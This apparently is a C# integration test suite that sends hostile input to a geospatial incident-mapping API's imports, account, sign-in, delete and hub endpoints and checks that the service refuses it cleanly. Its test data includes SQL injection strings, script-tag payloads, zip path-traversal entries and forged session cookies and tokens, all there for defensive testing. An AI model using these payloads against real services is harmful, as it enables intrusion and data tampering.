        static string Collection(string geometry, string properties = "{}") =>
            $$"""{"type":"FeatureCollection","features":[{"type":"Feature","geometry":{{geometry}},"properties":{{properties}}}]}""";
        var square = """{"type":"Polygon","coordinates":[[[114.90,40.80],[114.901,40.80],[114.901,40.801],[114.90,40.801],[114.90,40.80]]]}""";
        (string Source, string Body, string Where)[] cases =
        [
            ("osm", Collection(square)[..^4], "not valid JSON"),
            ("osm", """{"type":"Feature","geometry":null,"properties":{}}""", "/type"),
            ("osm", """{"type":"FeatureCollection","features":{}}""", "/features"),
            ("osm", Collection(square.Replace("114.901,40.80]", "NaN,40.80]", StringComparison.Ordinal)), "not valid JSON"),
            ("osm", Collection(square.Replace("114.901,40.80]", "1e400,40.80]", StringComparison.Ordinal)), "/features/0/geometry"),
            ("osm", Collection(square.Replace("114.901,40.80]", "914.901,40.80]", StringComparison.Ordinal)), "/features/0/geometry"),
            ("osm", Collection("""{"type":"Polygon","coordinates":[[[114.90,40.80],[114.91,40.81],[114.91,40.80],[114.90,40.81],[114.90,40.80]]]}"""), "/features/0/geometry"),
            ("osm", Collection("""{"type":"Point","coordinates":[114.9,40.8]}"""), "/features/0/geometry"),
            ("osm", Collection("""{"type":"Polygon","crs":{"type":"name","properties":{"name":"EPSG:3857"}},"coordinates":[[[1,1],[2,1],[2,2],[1,1]]]}"""), "/features/0/geometry"),
            ("osm", Collection(square, """{"levels":1e400}"""), "/features/0/properties/levels"),
            ("osm", Collection(square, """{"height_m":-1}"""), "/features/0/properties/height_m"),
            ("osm", Collection(square, """{"kind":"<script>alert(1)</script>"}"""), "/features/0/properties/kind"),
            ("osm", Collection(square, $$"""{"ref":"{{Enormous[..5000]}}"}"""), "/features/0/properties/ref"),
            ("'; DROP TABLE buildings; --", Collection(square), "/source"),
            ("..%2F..%2Fetc", Collection(square), "/source"),
            (new string('a', 500), Collection(square), "/source"),
        ];
        foreach (var (source, body, where) in cases)
        {
            await RefusedAsync($"buildings {source} {Shorten(body)}", () => Request(HttpMethod.Put, "/api/buildings/sources/" + Uri.EscapeDataString(source), Json(body)), where, tables,
                [400, 404]);
        }
        await RefusedAsync("buildings invalid UTF-8", () => Request(HttpMethod.Put, "/api/buildings/sources/osm", Json(WithInvalidUtf8(Collection(square, """{"ref":"r"}""")))),
            "not valid UTF-8", tables);

        // a million vertices: the building import takes bodies up to 256 MiB, so the geometry reader has to stop it
        var ring = MillionVertexRing();
        await RefusedAsync("buildings with 10⁶ vertices", () => Request(HttpMethod.Put, "/api/buildings/sources/osm", Json(Collection(ring))), "too many positions", tables, [400]);

        // refs are free text: stored exactly
        foreach (var nasty in Injections.Where(n => !n.Contains('\0', StringComparison.Ordinal)))
        {
            _tried++;
            var response = await SendAsync(() => Request(HttpMethod.Put, "/api/buildings/sources/hostile", Json(Collection(square, new JsonObject { ["ref"] = nasty }.ToJsonString()))));
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"ref {nasty}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
            var listed = await (await _client.GetAsync("/api/buildings?bbox=114.89,40.79,114.91,40.81&limit=100")).JsonAsync();
            Assert.Contains(listed.GetProperty("features").EnumerateArray(), f => f.GetProperty("properties").GetProperty("ref").GetString() == nasty);
        }
        HostileInputTally.Report(output, nameof(BuildingImportsAreRefusedCleanlyOrStoredExactly), _tried);
    }

    /// <summary>A closed ring of 10⁶ + 1 positions (about 30 MB of GeoJSON).</summary>
    public static string MillionVertexRing()
    {
        const int n = 1_000_000;
        var text = new StringBuilder("""{"type":"Polygon","coordinates":[[""", 40 * n);
        for (var i = 0; i <= n; i++)
        {
            var a = (i % n) * 2 * Math.PI / n;
            if (i > 0) text.Append(',');
            text.Append(CultureInfo.InvariantCulture, $"[{114.9 + 0.01 * Math.Cos(a):0.#########},{40.8 + 0.01 * Math.Sin(a):0.#########}]");
        }
        return text.Append("]]}").ToString();
    }

    // ---------------------------------------------------------------- file imports

    private static MultipartFormDataContent Upload(string? options, params (string Name, byte[] Content)[] files)
    {
        var form = new MultipartFormDataContent();
        if (options is not null) form.Add(new StringContent(options), "options");
        foreach (var (name, content) in files)
        {
            var part = new ByteArrayContent(content);
            part.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
            form.Add(part, "file", name);
        }
        return form;
    }

    private static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(content);
            }
        }
        return buffer.ToArray();
    }

    /// <summary>
    /// Imports run as jobs: a request that cannot start is a 4xx problem+json; a file that cannot be imported ends
    /// the job "refused" (problems naming the file or option) or "rejected" (each bad row named; nothing written) —
    /// never "failed" (an unexpected error) and never with rows written.
    /// </summary>
    [Fact]
    public async Task HostileImportFilesAreRefusedAndWriteNothing()
    {
        string[] tables = ["incidents", "cameras", "zones", "audit_log"];
        var csv = "category,severity,occurred_at,x,y\nviolent,2,2026-03-01T08:30:00Z,114.9,40.8\n"u8.ToArray();
        const string incidents = """{"layer":"incidents"}""";

        // requests that cannot start
        await RefusedAsync("import as JSON", () => Request(HttpMethod.Post, "/api/imports?wait=true", Json(incidents, "application/json")), "multipart/form-data", tables, [415]);
        await RefusedAsync("import without options", () => Request(HttpMethod.Post, "/api/imports?wait=true", Upload(null, ("a.csv", csv))), "/options", tables, [400]);
        await RefusedAsync("import with broken options", () => Request(HttpMethod.Post, "/api/imports?wait=true", Upload("{\"layer\":", ("a.csv", csv))), "/options", tables, [400]);
        await RefusedAsync("import into no layer", () => Request(HttpMethod.Post, "/api/imports?wait=true", Upload("""{"layer":"audit_log"}""", ("a.csv", csv))), "/options/layer", tables, [400]);
        await RefusedAsync("import with injected layer", () => Request(HttpMethod.Post, "/api/imports?wait=true", Upload("""{"layer":"incidents; DROP TABLE incidents"}""", ("a.csv", csv))), "/options/layer", tables, [400]);
        await RefusedAsync("import of wrong option type", () => Request(HttpMethod.Post, "/api/imports?wait=true", Upload("""{"layer":"incidents","dry_run":"yes"}""", ("a.csv", csv))), "/options", tables, [400]);
        await RefusedAsync("import without files", () => Request(HttpMethod.Post, "/api/imports?wait=true", Upload(incidents)), "/files", tables, [400]);

        // files that cannot be imported
        var invalidUtf8 = "category,severity,occurred_at,x,y,address\nviolent,2,2026-03-01T08:30:00Z,114.9,40.8,"u8.ToArray().Concat(new byte[] { 0xC3, 0x28, 0xFF, (byte)'\n' }).ToArray();
        string Rows(string x, string y) => $"category,severity,occurred_at,x,y\nviolent,2,2026-03-01T08:30:00Z,{x},{y}\n";
        var shapefile = await ShapefileZipAsync();
        var foreignPrj = "PROJCS[\"Nowhere_Grid\",GEOGCS[\"GCS_Nowhere\",DATUM[\"D_Nowhere\",SPHEROID[\"Sphere\",1000,0]],PRIMEM[\"Greenwich\",0],UNIT[\"Degree\",0.0174532925199433]],PROJECTION[\"Mystery\"],UNIT[\"Meter\",1]]"u8.ToArray();
        var files = new (string Name, string Options, (string Name, byte[] Content)[] Files, string Where)[]
        {
            ("CSV with invalid UTF-8", incidents, [("bad.csv", invalidUtf8)], "bad.csv"),
            ("CSV with NaN", incidents, [("nan.csv", Encoding.UTF8.GetBytes(Rows("NaN", "40.8")))], "nan.csv 1 row: column x"),
            ("CSV with Infinity", incidents, [("inf.csv", Encoding.UTF8.GetBytes(Rows("Infinity", "-Infinity")))], "inf.csv 1"),
            ("CSV with 1e400", incidents, [("huge.csv", Encoding.UTF8.GetBytes(Rows("1e400", "40.8")))], "huge.csv 1"),
            ("CSV with latitude 95", incidents, [("lat.csv", Encoding.UTF8.GetBytes(Rows("114.9", "95")))], "lat.csv 1"),
            ("CSV with an enormous row", incidents,
                [("wide.csv", Encoding.UTF8.GetBytes("category,severity,occurred_at,x,y,address\nviolent,2,2026-03-01T08:30:00Z,114.9,40.8," + new string('x', 3_000_000) + "\n"))], "address"),
            ("CSV with injected column names", """{"layer":"incidents","x":"x\"; DROP TABLE incidents; --","y":"y"}""", [("a.csv", csv)], "x"),
            ("CSV in an unknown CRS", """{"layer":"incidents","crs":"EPSG:99999"}""", [("a.csv", csv)], "crs"),
            ("corrupt zip", incidents, [("broken.zip", [.. "PK\u0003\u0004garbage"u8, .. new byte[200]])], "broken.zip"),
            ("zip with path traversal", incidents, [("evil.zip", Zip(("../../../../tmp/sm-hostile-evil.shp", shapefile.Shp), ("../../../../tmp/sm-hostile-evil.dbf", shapefile.Dbf)))], "evil.zip"),
            ("shapefile with a foreign .prj", incidents, [("foreign.zip", Zip(("incidents.shp", shapefile.Shp), ("incidents.shx", shapefile.Shx), ("incidents.dbf", shapefile.Dbf), ("incidents.prj", foreignPrj)))], "foreign.zip"),
            ("GeoPackage that is not SQLite", incidents, [("fake.gpkg", "this is not an SQLite database, just text pretending to be one"u8.ToArray())], "fake.gpkg"),
            ("GeoJSON with a foreign crs", incidents,
                [("crs.geojson", Encoding.UTF8.GetBytes("""{"type":"FeatureCollection","crs":{"type":"name","properties":{"name":"urn:ogc:def:crs:EPSG::99999"}},"features":[{"type":"Feature","geometry":{"type":"Point","coordinates":[114.9,40.8]},"properties":{"category":"violent","severity":2,"occurred_at":"2026-03-01T08:30:00Z"}}]}"""))], "crs"),
            ("GeoJSON that is not JSON", incidents, [("broken.geojson", "{\"type\":\"FeatureCollection\",\"features\":[{"u8.ToArray())], "broken.geojson"),
            ("file of no known format", incidents, [("payload.exe", "MZ"u8.ToArray())], "format"),
        };
        foreach (var (name, options, upload, where) in files)
        {
            _tried++;
            var before = await StateAsync(tables[..3]);
            var response = await SendAsync(() => Request(HttpMethod.Post, "/api/imports?wait=true", Upload(options, upload)));
            var text = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{name}: {(int)response.StatusCode} {Shorten(text)}");
            var status = await response.JsonAsync();
            var state = status.GetProperty("state").GetString();
            Assert.True(state is "refused" or "rejected", $"{name}: the import ended {state}: {Shorten(text)}");
            var said = state == "refused"
                ? string.Join(" | ", status.GetProperty("problems").EnumerateObject().SelectMany(p => p.Value.EnumerateArray().Select(m => $"{p.Name}: {m.GetString()}")))
                : string.Join(" | ", status.GetProperty("result").GetProperty("rejects").EnumerateArray().Select(r => $"{r.GetProperty("file").GetString()} {r.GetProperty("row")} {r.GetProperty("field").GetString()}: {r.GetProperty("message").GetString()}"));
            Assert.True(said.Contains(where, StringComparison.OrdinalIgnoreCase), $"{name}: expected '{where}' to be named, got {Shorten(said)}");
            if (state == "rejected") Assert.False(status.GetProperty("result").GetProperty("written").GetBoolean(), name);
            Assert.Equal(before, await StateAsync(tables[..3]));
        }
        Assert.False(File.Exists("/tmp/sm-hostile-evil.shp"), "a zip entry named ../../… was written outside the upload folder");
        HostileInputTally.Report(output, nameof(HostileImportFilesAreRefusedAndWriteNothing), _tried);
    }

    /// <summary>A real shapefile of one incident, as the export writes it.</summary>
    private async Task<(byte[] Shp, byte[] Shx, byte[] Dbf)> ShapefileZipAsync()
    {
        await _client.CreateAsync("incidents", Incident());
        var zip = await _client.GetByteArrayAsync("/api/exports/incidents.shp.zip");
        using var archive = new ZipArchive(new MemoryStream(zip));
        byte[] Entry(string extension)
        {
            using var stream = archive.Entries.Single(e => e.Name.EndsWith(extension, StringComparison.OrdinalIgnoreCase)).Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            return copy.ToArray();
        }
        return (Entry(".shp"), Entry(".shx"), Entry(".dbf"));
    }

    // ---------------------------------------------------------------- accounts, tokens, sign-in, sign-out, deletes

    [Fact]
    public async Task AccountAndTokenWritesAreRefusedCleanlyOrStoredExactly()
    {
        string[] tables = ["accounts", "api_tokens", "audit_log"];
        var created = await _client.PostAsync("/api/admin/accounts", Json("""{"username":"hostile-target","roles":["viewer"]}""", "application/json"));
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var id = (await created.JsonAsync()).GetProperty("account").GetProperty("id").GetInt64();
        (HttpMethod Method, string Url, string Body, string Where, int[]? Statuses)[] cases =
        [
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"x1",""", "not valid JSON", null),
            (HttpMethod.Post, "/api/admin/accounts", "[]", "", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"' OR '1'='1","roles":["viewer"]}""", "/username", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"admin'--","roles":["admin"]}""", "/username", null),
            (HttpMethod.Post, "/api/admin/accounts", $$"""{"username":"{{Enormous[..100_000]}}"}""", "/username", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"hostile-a","roles":["root"]}""", "/roles/0", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"hostile-a","roles":"admin"}""", "/roles", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"hostile-a","roles":["viewer"],"districts":["'; DROP TABLE districts; --"]}""", "/districts/0", null),
            (HttpMethod.Post, "/api/admin/accounts", $$"""{"username":"hostile-a","roles":["viewer"],"display_name":"{{Enormous[..100_000]}}"}""", "/display_name", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"hostile-a","roles":["viewer"],"password":"1"}""", "/password", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"hostile-a","roles":["viewer"],"disabled":"no"}""", "/disabled", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"hostile-a","roles":["viewer"],"is_superuser":true}""", "/is_superuser", null),
            (HttpMethod.Post, "/api/admin/accounts", """{"username":"hostile-target","roles":["viewer"]}""", "hostile-target", [409]),
            (HttpMethod.Put, $"/api/admin/accounts/{id}", """{"roles":["root"]}""", "/roles/0", null),
            (HttpMethod.Put, $"/api/admin/accounts/{id}", """{"username":"someone-else"}""", "/username", null),
            (HttpMethod.Put, $"/api/admin/accounts/{id}", """{"display_name":12}""", "/display_name", null),
            (HttpMethod.Put, $"/api/admin/accounts/{id}", $$"""{"display_name":"{{Enormous[..100_000]}}"}""", "/display_name", null),
            (HttpMethod.Put, $"/api/admin/accounts/{id}", """{"districts":["nowhere"]}""", "/districts/0", null),
            (HttpMethod.Put, $"/api/admin/accounts/{id}", """{"password":"abc"}""", "/password", null),
            (HttpMethod.Put, $"/api/admin/accounts/{id}", """{"disabled":""", "not valid JSON", null),
            (HttpMethod.Put, $"/api/admin/accounts/{long.MaxValue}", """{"display_name":"x"}""", long.MaxValue.ToString(CultureInfo.InvariantCulture), [404]),
            (HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", """{"name":""", "not valid JSON", null),
            (HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", "{}", "/name", null),
            (HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", $$"""{"name":"{{Enormous[..100_000]}}"}""", "/name", null),
            (HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", """{"name":"feed","expires_at":"2001-01-01T00:00:00Z"}""", "/expires_at", null),
            (HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", """{"name":"feed","expires_at":"tomorrow"}""", "/expires_at", null),
            (HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", """{"name":"feed","expires_at":1e400}""", "/expires_at", null),
            (HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", """{"name":"feed","scopes":["*"]}""", "/scopes", null),
            (HttpMethod.Post, $"/api/admin/accounts/{long.MaxValue}/tokens", """{"name":"feed"}""", long.MaxValue.ToString(CultureInfo.InvariantCulture), [404]),
        ];
        foreach (var (method, url, body, where, statuses) in cases)
            await RefusedAsync($"{method} {url} {Shorten(body)}", () => Request(method, url, Json(body, "application/json")), where, tables, statuses);

        // display names and token names are free text: stored exactly or refused naming the field
        foreach (var nasty in Injections)
        {
            _tried++;
            var before = await StateAsync(tables);
            var update = await SendAsync(() => Request(HttpMethod.Put, $"/api/admin/accounts/{id}", Body(new JsonObject { ["display_name"] = nasty }, "application/json")));
            if (update.IsSuccessStatusCode)
                Assert.Equal(nasty, (await update.JsonAsync()).GetProperty("account").GetProperty("display_name").GetString());
            else await AssertRefusedNamingAsync(update, "/display_name", before, tables, $"display_name {nasty}");
            _tried++;
            before = await StateAsync(tables);
            var token = await SendAsync(() => Request(HttpMethod.Post, $"/api/admin/accounts/{id}/tokens", Body(new JsonObject { ["name"] = nasty }, "application/json")));
            if (token.IsSuccessStatusCode)
                Assert.Equal(nasty, (await token.JsonAsync()).GetProperty("token").GetProperty("name").GetString());
            else await AssertRefusedNamingAsync(token, "/name", before, tables, $"token name {nasty}");
        }
        HostileInputTally.Report(output, nameof(AccountAndTokenWritesAreRefusedCleanlyOrStoredExactly), _tried);
    }

    private async Task AssertRefusedNamingAsync(HttpResponseMessage response, string pointer, string before, string[] tables, string name)
    {
        var body = await response.JsonAsync();
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{name}: {(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.True(Errors(body).Any(e => e.StartsWith(pointer + ": ", StringComparison.Ordinal)), $"{name}: {body}");
        Assert.Equal(before, await StateAsync(tables));
    }

    /// <summary>Sign-in allows 10 attempts a minute per address: nine cases, then sign-out with a forged cookie.</summary>
    [Fact]
    public async Task SignInRefusesHostileBodiesWithoutSigningAnyoneIn()
    {
        string[] tables = ["accounts", "api_tokens"];
        using var anonymous = server.CreateClient("");
        (string Body, string Where, int Status)[] cases =
        [
            ("""{"username":"operator","password":""", "not valid JSON", 400),
            ("[\"operator\",\"x\"]", "", 400),
            ("""{"username":1,"password":2}""", "/username", 400),
            ("{}", "username", 400),
            ($$"""{"username":"{{Enormous}}","password":"x"}""", "Wrong username or password", 401),
            ("""{"username":"' OR '1'='1","password":"' OR '1'='1"}""", "Wrong username or password", 401),
            ("""{"username":"operator'--","password":"x"}""", "Wrong username or password", 401),
            ("""{"username":"<script>alert(1)</script>","password":"x","remember":true}""", "/remember", 400),
        ];
        foreach (var (body, where, status) in cases)
        {
            var problem = await RefusedAsync($"sign-in {Shorten(body)}", () => Request(HttpMethod.Post, "/api/auth/sign-in", Json(body, "application/json")), where, tables, [status], anonymous);
            Assert.False(problem.TryGetProperty("csrf_token", out _));
        }
        await RefusedAsync("sign-in invalid UTF-8", () => Request(HttpMethod.Post, "/api/auth/sign-in", Json(WithInvalidUtf8("""{"username":"operator","password":"x"}"""), "application/json")),
            "not valid UTF-8", tables, [400], anonymous);

        // sign-out needs a session: a forged cookie or token is a 401 that changes nothing
        using var forged = new HttpClient { BaseAddress = server.BaseAddress };
        forged.DefaultRequestHeaders.TryAddWithoutValidation("Cookie", "sm_session=' OR '1'='1; .AspNetCore.Cookies=<script>");
        await RefusedAsync("sign-out with a forged cookie", () => Request(HttpMethod.Post, "/api/auth/sign-out", null), "", tables, [401], forged);
        using var bogus = new HttpClient { BaseAddress = server.BaseAddress };
        bogus.DefaultRequestHeaders.TryAddWithoutValidation("Authorization", "Bearer smt_' OR '1'='1");
        await RefusedAsync("sign-out with a forged token", () => Request(HttpMethod.Post, "/api/auth/sign-out", null), "", tables, [401], bogus);
        HostileInputTally.Report(output, nameof(SignInRefusesHostileBodiesWithoutSigningAnyoneIn), _tried);
    }

    [Fact]
    public async Task DeletesOfWhatIsNotThereAreRefusedCleanly()
    {
        foreach (var layer in Layers)
        {
            string[] tables = [layer.Table, "audit_log"];
            var existing = await _client.CreateAsync(layer.Route, layer.Valid());
            await RefusedAsync($"DELETE {layer.Route} no such id", () => Request(HttpMethod.Delete, $"/api/{layer.Route}/{long.MaxValue}", null),
                long.MaxValue.ToString(CultureInfo.InvariantCulture), tables, [404]);
            await RefusedAsync($"DELETE {layer.Route} with a stale If-Match", () => Request(HttpMethod.Delete, $"/api/{layer.Route}/{existing.Id()}", null, "\"999999\""),
                "version", tables, [412]);
            await RefusedAsync($"DELETE {layer.Route} with a garbage If-Match", () => Request(HttpMethod.Delete, $"/api/{layer.Route}/{existing.Id()}", null, "\"' OR '1'='1\""),
                "version", tables, [412]);
        }
        await RefusedAsync("DELETE token no such id", () => Request(HttpMethod.Delete, $"/api/admin/tokens/{long.MaxValue}", null),
            long.MaxValue.ToString(CultureInfo.InvariantCulture), ["api_tokens", "audit_log"], [404]);
        HostileInputTally.Report(output, nameof(DeletesOfWhatIsNotThereAreRefusedCleanly), _tried);
    }

    // ---------------------------------------------------------------- the live hub

    [Fact]
    public async Task HubSubscribeRefusesHostileSubscriptionsAndKeepsTheConnection()
    {
        await using var hub = await server.ConnectHubAsync();
        var head = await server.Database.ScalarAsync("SELECT seq FROM change_log_head");
        (string Name, JsonNode? Subscription, string Words)[] cases =
        [
            ("bbox of three numbers", JsonNode.Parse("""{"bbox":[1,2,3]}"""), "bbox"),
            ("bbox of five numbers", JsonNode.Parse("""{"bbox":[1,2,3,4,5]}"""), "bbox"),
            ("bbox min above max", JsonNode.Parse("""{"bbox":[115,41,114,40]}"""), "bbox"),
            ("bbox out of range", JsonNode.Parse("""{"bbox":[-500,-100,500,100]}"""), "bbox"),
            ("bbox huge", JsonNode.Parse("""{"bbox":[-1e308,-1e308,1e308,1e308]}"""), "bbox"),
            ("unknown layer", JsonNode.Parse("""{"layers":["audit_log"]}"""), "unknown layer"),
            ("injected layer", JsonNode.Parse("""{"layers":["incidents'; DROP TABLE incidents; --"]}"""), "unknown layer"),
            ("negative since", JsonNode.Parse("""{"since":-5}"""), "since"),
            ("margin ratio huge", JsonNode.Parse("""{"margin_ratio":1e300}"""), "margin_ratio"),
            ("no subscription", null, "subscription"),
        ];
        foreach (var (name, subscription, words) in cases)
        {
            _tried++;
            var error = await Assert.ThrowsAsync<HubException>(() => hub.InvokeAsync<JsonElement>("Subscribe", subscription));
            Assert.True(error.Message.Contains(words, StringComparison.Ordinal), $"{name}: the hub said '{error.Message}'");
            Assert.Equal(HubConnectionState.Connected, hub.State);
        }
        // wrong shapes fail in argument binding: still an error for the call, not a dropped connection
        foreach (var wrong in new[] { """{"bbox":"everywhere"}""", """{"layers":"incidents"}""", """{"since":"yesterday"}""", "[1,2,3]" })
        {
            _tried++;
            await Assert.ThrowsAnyAsync<HubException>(() => hub.InvokeAsync<JsonElement>("Subscribe", JsonNode.Parse(wrong)));
            Assert.Equal(HubConnectionState.Connected, hub.State);
        }
        var accepted = await hub.InvokeAsync<JsonElement>("Subscribe", JsonNode.Parse("""{"bbox":[114,40,116,41],"layers":["incidents"]}"""));
        Assert.Equal("incidents", accepted.GetProperty("layers")[0].GetString());
        Assert.Equal(head, await server.Database.ScalarAsync("SELECT seq FROM change_log_head"));
        HostileInputTally.Report(output, nameof(HubSubscribeRefusesHostileSubscriptionsAndKeepsTheConnection), _tried);
    }
}
